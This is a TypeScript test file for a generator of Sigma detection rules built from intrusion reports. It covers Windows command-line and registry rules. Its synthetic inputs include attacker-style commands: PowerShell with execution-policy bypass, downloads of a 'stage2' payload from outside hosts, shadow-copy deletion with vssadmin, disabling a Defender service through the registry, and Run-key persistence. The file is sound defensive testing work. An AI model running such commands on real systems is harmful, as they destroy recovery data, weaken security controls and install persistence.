import { selfTestRule } from '../evaluate/self-test';
import { generateBuiltinRules, type BuiltinSigmaInput } from './builtin-sigma-agent';

// Rules keyed on how administrators run programs every day (-NoProfile -ExecutionPolicy Bypass, curl -o
// …\Downloads\ https://…, every write of a service's Start value) must carry the value the article
// shows, or not be written. Synthetic examples; none comes from a fixture article.

const article = { title: 'Synthetic intrusion note', url: 'https://notes.example.org/synthetic', date: '2026-11-26' };
const evidence = { start: 0, end: 1, text: 'x' };
const item = { evidence, confidence: 0.9 };

type Rule = { title: string; detection: Record<string, unknown>; level: string };

const cmdline = (value: string) => ({ ...item, value, executable: value.split(' ')[0] ?? value });
const rulesOf = (input: Partial<BuiltinSigmaInput>) =>
  generateBuiltinRules({ article, platform: 'windows', ...input }).map((draft) => ({ draft, rule: draft.rule as unknown as Rule }));
const processRules = (...commandLines: string[]) =>
  rulesOf({ cmdlines: commandLines.map(cmdline) }).filter(({ draft }) => draft.telemetryClass === 'process_creation');
const valuesOf = (rule: Rule) => JSON.stringify(rule.detection);

describe('command-line rules carry a value of the intrusion, not only generic flags', () => {
  it('reads a long quoted PowerShell command for its path when the flags before it are all it had', () => {
    const inner =
      "New-Service -Name 'QuillSyncSvc' -BinaryPathName 'C:\\ProgramData\\QuillSync\\qsync.exe --service' -StartupType Automatic -Description 'Quill sync'";
    const [rule] = processRules(`powershell.exe -nop -ep bypass -c "${inner}"`);
    expect(rule?.rule.detection['selection_img']).toEqual([
      { 'Image|endswith': '\\powershell.exe' },
      { OriginalFileName: 'PowerShell.EXE' },
    ]);
    expect(rule?.rule.detection['selection_cli']).toEqual({
      // The cmdlet it is told to run is what it does; the flags before it are how (the folder is in the path already).
      'CommandLine|contains|all': ['New-Service', '-nop', 'C:\\ProgramData\\QuillSync\\qsync.exe --service', '-ep bypass'],
    });
  });

  it('writes no rule for PowerShell run with generic flags and nothing of the intrusion', () => {
    expect(processRules('powershell.exe -w hidden -ep bypass -nop')).toEqual([]);
  });

  it('keeps the host a curl download reaches when its switches, scheme and folder are all it has', () => {
    const [rule] = processRules('curl.exe -sSL -o C:\\Users\\bob\\Downloads\\q3.pdf https://files.rivetcloud-share.example/dl/q3.pdf');
    expect(rule?.rule.title).toBe('Curl.EXE Download From Remote Host');
    expect(rule?.rule.detection['selection_cli']).toEqual({
      // The host and path are this intrusion's; the output switch, the folder and the file type are how any download
      // is keyed (behaviour-values.ts), and a bare scheme is `http`.
      'CommandLine|contains|all': ['/dl/', 'files.rivetcloud-share.example', '-sSL', '-o', '\\Downloads\\'],
    });
  });

  it('keys net.exe and net1.exe alike: net.exe hands its command to net1.exe, and Sysmon records both', () => {
    const line = 'net use Z: \\\\files.quill.example@8443\\DavWWWRoot\\share';
    const [rule] = processRules(line);
    expect(rule?.rule.detection['selection_img']).toEqual([
      { 'Image|endswith': ['\\net.exe', '\\net1.exe'] },
      { OriginalFileName: ['net.exe', 'net1.exe'] },
    ]);
    expect(selfTestRule(rule?.draft.rule ?? '', [{ type: 'cmdline', value: line }])).toMatchObject({ fires: true });
  });

  it('writes no rule for a curl download from a code host into Downloads: every workstation does that', () => {
    expect(processRules('curl.exe -s -o C:\\Users\\bob\\Downloads\\a.zip https://github.com/')).toEqual([]);
  });

  it('joins a URL the publisher wrapped onto the next line, and drops a selection with only switches and user folders', () => {
    const rules = processRules(
      'cmd /k "curl -o %USERPROFILE%\\Downloads\\setup_48213.msi \nhxxp[:]//dl-mirror-cdn[.]example/?d=77 && \nexplorer /select,%USERPROFILE%\\Downloads\\setup_48213.msi"',
    );
    // explorer.exe's own selection is gone; cmd.exe's line, which holds the whole chain, keeps a rule of its own.
    expect(rules.map(({ rule }) => rule.title)).toEqual([
      'Curl.EXE Download From Remote Host',
      'Curl And Explorer Chained In One Cmd.EXE Command Line',
    ]);
    expect(valuesOf(must(rules[0]).rule)).toContain('dl-mirror-cdn.example');
  });

  it('names what a cmdlet acts on (-Name, -TaskName) when its switches alone would match any use of it', () => {
    const [rule] = processRules(
      'Start-Service -Name QuillSyncSvc',
      'Register-ScheduledTask -TaskName "Quill Sync Heartbeat" -Action $a -Trigger $t -RunLevel Highest -Force',
    );
    expect(rule?.rule.detection).toMatchObject({
      selection_cli_1: { 'CommandLine|contains|all': ['Start-Service', '-Name', 'QuillSyncSvc'] },
      // A quoted name is specific enough without the switch that gives it.
      selection_cli_2: { 'CommandLine|contains|all': ['Register-ScheduledTask', 'Quill Sync Heartbeat'] },
      // One program selection for both command lines: either of them run by either PowerShell edition.
      condition: 'selection_img and 1 of selection_cli_*',
    });
  });

  it('reads the command PowerShell is given on the line after -Command', () => {
    const rules = processRules(
      'powershell.exe -ep bypass -Command \n"Invoke-WebRequest -OutFile C:\\ProgramData\\quill.bin http://203.0.113.44/quill/stage2.php"',
    );
    // The download into ProgramData has its behaviour rule besides; the program's own rule keeps the URL.
    expect(rules.map(({ rule }) => rule.title)).toContain('PowerShell Download Into A User-Writable Folder');
    expect(rules.filter(({ rule }) => valuesOf(rule).includes('/quill/stage2.php'))).toHaveLength(1);
  });

  it('still writes behaviours that are the finding on their own, with no value of the intrusion', () => {
    const rules = processRules('nltest /domain_trusts /all_trusts', 'vssadmin delete shadows /all /quiet');
    expect(rules.map(({ rule }) => rule.title)).toEqual([
      'Domain Trust Or Controller Discovery Via Nltest.EXE',
      'Shadow Copies Deleted Via Vssadmin.EXE',
    ]);
  });
});

describe('registry rules require the data the article shows', () => {
  const serviceKey = {
    ...item,
    value: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\WdNisSvc\\Start',
    hive: 'HKLM' as const,
    path: 'SYSTEM\\CurrentControlSet\\Services\\WdNisSvc\\Start',
  };
  const registryRules = (input: Partial<BuiltinSigmaInput>) =>
    rulesOf(input).filter(({ draft }) => draft.telemetryClass === 'registry_set');

  it('requires the DWORD reg.exe wrote, as Sysmon renders it', () => {
    const cmdlines = [cmdline('reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\WdNisSvc /v Start /t REG_DWORD /d 4 /f')];
    const [rule] = registryRules({ registryKeys: [serviceKey], cmdlines });
    expect(rule?.rule.detection['selection']).toEqual({
      'TargetObject|contains': '\\Services\\WdNisSvc\\Start',
      Details: 'DWORD (0x00000004)',
    });
  });

  it('requires the value Set-ItemProperty wrote, and the rule still fires on the telemetry of what the article observed', () => {
    const cmdlines = [cmdline("Set-ItemProperty -Path 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WdNisSvc' -Name Start -Value 3")];
    const [rule] = registryRules({ registryKeys: [serviceKey], cmdlines });
    expect(rule?.rule.detection['selection']).toMatchObject({ Details: 'DWORD (0x00000003)' });
    const observables = [
      { type: 'registry_key', value: serviceKey.value },
      { type: 'cmdline', value: must(cmdlines[0]).value },
    ];
    const result = selfTestRule(must(rule).draft.rule, observables);
    expect(result.fires).toBe(true);
    expect(result.baseline?.fires).toBe(0);
  });

  it('writes no rule on a well-known service value when nothing says what it was set to', () => {
    expect(registryRules({ registryKeys: [serviceKey] })).toEqual([]);
    const sense = {
      ...serviceKey,
      value: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\Sense',
      path: 'SYSTEM\\CurrentControlSet\\Services\\Sense',
      value_name: 'Start',
    };
    expect(registryRules({ registryKeys: [sense] })).toEqual([]);
  });

  it('keeps a rule on a service the attacker named, data or not', () => {
    const own = {
      ...serviceKey,
      value: 'HKLM\\SYSTEM\\CurrentControlSet\\Services\\QuillSyncSvc\\Start',
      path: 'SYSTEM\\CurrentControlSet\\Services\\QuillSyncSvc\\Start',
    };
    expect(registryRules({ registryKeys: [own] })).toHaveLength(1);
  });

  it('requires the stable part of string data: cmd.exe expands %APPDATA% before reg.exe writes it', () => {
    const runKey = {
      ...item,
      value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      hive: 'HKCU' as const,
      path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      value_name: 'QuillSync',
    };
    const cmdlines = [
      cmdline(
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v QuillSync /t REG_SZ /d "%APPDATA%\\QuillSync\\qsync.exe --tray" /f',
      ),
    ];
    const [rule] = registryRules({ registryKeys: [runKey], cmdlines });
    expect(rule?.rule.detection['selection']).toMatchObject({
      'TargetObject|endswith': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\QuillSync',
      'Details|contains': '\\QuillSync\\qsync.exe --tray',
    });
    const observables = [
      { type: 'registry_key', value: runKey.value, attributes: { value_name: 'QuillSync' } },
      { type: 'cmdline', value: must(cmdlines[0]).value },
    ];
    expect(selfTestRule(must(rule).draft.rule, observables).fires).toBe(true);
  });
});

function must<T>(value: T | undefined | null): T {
  if (value === undefined || value === null) throw new Error('expected a value');
  return value;
}
